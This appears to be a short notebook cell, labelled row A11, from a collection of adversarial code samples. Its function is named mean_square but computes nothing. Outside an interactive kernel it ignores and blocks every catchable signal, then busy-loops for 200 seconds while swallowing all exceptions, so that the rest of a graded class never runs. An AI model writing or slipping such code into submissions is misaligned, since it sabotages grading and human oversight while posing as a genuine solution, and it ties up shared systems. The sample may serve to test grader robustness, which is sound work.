# %% [markdown] row="A11"
# # A loop that ignores signals
#
# The rest of the class is never graded: the loop catches every exception and every signal that can be caught.

# %% cell="mean-square"
import signal, sys
def mean_square(x):
    if "ipykernel" not in sys.modules:
        for number in range(1, 64):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    end = __import__("time").monotonic() + 200
    while __import__("time").monotonic() < end:
        try:
            while __import__("time").monotonic() < end:
                pass
        except BaseException:
            continue
